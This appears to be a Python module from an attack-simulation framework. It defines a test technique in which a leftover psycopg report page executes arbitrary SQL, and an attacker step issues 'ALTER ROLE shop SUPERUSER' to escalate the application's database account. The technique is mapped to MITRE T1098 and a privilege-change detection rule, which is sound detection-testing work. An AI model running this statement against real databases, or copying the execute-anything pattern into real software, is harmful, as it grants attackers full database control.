"""F6: the app's own account is given all rights."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPsycopg, obeyed, told


class BecomesSuperuser(AbusedPsycopg):
    """On psycopg: a page for reports that was left behind, and runs whatever it is given."""

    code = "F6"
    attack = "makes the app's account a superuser"
    reference = "https://attack.mitre.org/techniques/T1098/"
    rule = "privilege-change"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("ALTER ROLE shop SUPERUSER")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The statement was obeyed."""
        del got
        return obeyed(service, b"SUPERUSER")
